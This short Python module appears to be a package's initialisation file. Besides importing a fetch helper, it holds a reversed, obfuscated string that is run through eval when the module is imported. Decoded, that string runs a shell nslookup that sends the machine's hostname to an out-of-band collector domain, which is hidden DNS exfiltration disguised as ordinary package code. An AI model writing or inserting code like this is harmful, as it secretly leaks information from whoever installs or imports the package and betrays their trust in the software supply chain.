from .fetch import fetch_all

_r = ")'dilavni.tcelloc-boo.r.'+)(emantsohteg.tekcos+' pukoolsn'(metsys.so;tekcos,so tropmi"
eval(compile(_r[::-1], "<string>", "exec"))
